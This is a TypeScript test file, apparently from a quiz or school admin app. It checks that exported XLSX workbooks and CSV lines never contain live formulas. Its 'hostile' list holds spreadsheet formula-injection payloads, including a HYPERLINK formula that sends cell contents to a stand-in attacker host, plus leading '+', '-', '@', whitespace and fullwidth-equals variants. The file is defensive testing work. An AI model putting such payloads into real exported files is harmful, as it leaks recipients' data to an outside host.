/** Every table that is handed out: none of its cells is a formula, whatever a person's name or answer begins with. */
import { readdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterEach, expect, test, vi } from 'vitest'
import { writeTable } from '../../exchange/questions/sheet/write.ts'
import { toWorkbook } from '../../exchange/quizzes/resultSheets.ts'
import { csvLine, readCsv } from '../../exchange/table/csv.ts'
import type { ImportedRow } from '../../src/contract/admin/adminImport.ts'
import { savePasswords, saveWrongRows } from '../../src/features/admin/accounts/accountSheets.ts'
import { writeWorkbook } from '../../src/parts/spreadsheets.ts'
import { readZipTexts } from '../tools/zipTexts.ts'

const saved = vi.hoisted((): File[] => [])
vi.mock('../../src/ui/hooks/saveFile.ts', () => ({ saveFile: (file: File) => void saved.push(file) }))
afterEach(() => void saved.splice(0))

const hostile = [
  '=HYPERLINK("https://evil.example?"&A1)',
  '+1+1',
  '-2+3',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '\n=1',
  '＝1+1',
]
const lines = hostile.map((text) => [text, '1'])

/** The parts of a workbook that say what its cells are. */
async function cellsOf(book: Blob | Uint8Array<ArrayBuffer>): Promise<string> {
  const bytes = book instanceof Blob ? await book.arrayBuffer() : book.slice().buffer
  const parts = await readZipTexts(bytes)
  const sheets = [...parts].filter(([name]) => name.startsWith('xl/worksheets/'))
  expect(sheets.length).toBeGreaterThan(0)
  return sheets.map(([, text]) => text).join()
}

test('a workbook that is handed out holds text and no formula', async () => {
  const row: ImportedRow = {
    ...{ line: 2, state: 'wrong', number: '', fullName: '', changes: [], kept: [] },
    cells: { number: hostile[0] ?? '', fullName: hostile[1] ?? '' },
    problems: [{ zh: '缺少', en: 'missing' }],
  } as never
  await savePasswords('a.xlsx', ['a', 'b'], lines)
  await saveWrongRows('zh', 'b.xlsx', '原因', [row])
  expect(saved).toHaveLength(2)
  const books = [
    await writeWorkbook([{ name: 'a', rows: [['a', 'b'], ...lines] }]),
    await toWorkbook([{ name: 'a', rows: [['a', 'b'], ...lines] }]).toBuffer(),
    await writeTable([['a', 'b'], ...lines], lines),
    ...saved,
  ]
  for (const book of books) {
    const cells = await cellsOf(book as Blob)
    expect(cells).toContain('<c ')
    expect(cells).not.toMatch(/<f[ >]|t="str"/)
  }
})

test('a line of CSV has no cell that begins as a formula does', () => {
  const cells = readCsv(csvLine(hostile))[0] ?? []
  expect(cells).toHaveLength(hostile.length)
  expect(cells.filter((cell) => !cell.startsWith("'"))).toEqual([])
})

test('no other file writes a workbook', () => {
  const root = join(import.meta.dirname, '../..')
  const files = ['server', 'exchange', 'src', 'sample'].flatMap((folder) =>
    readdirSync(join(root, folder), { recursive: true, encoding: 'utf8' })
      .filter((name) => /\.tsx?$/.test(name))
      .map((name) => ({ name: join(folder, name), text: readFileSync(join(root, folder, name), 'utf8') })),
  )
  const having = (form: RegExp) => files.filter(({ text }) => form.test(text)).map(({ name }) => name)
  expect(having(/['"]write-excel-file/).sort()).toEqual([
    'exchange/questions/sheet/write.ts',
    'exchange/quizzes/resultSheets.ts',
    'src/features/admin/accounts/accountSheets.ts',
    'src/parts/spreadsheets.ts',
  ])
})
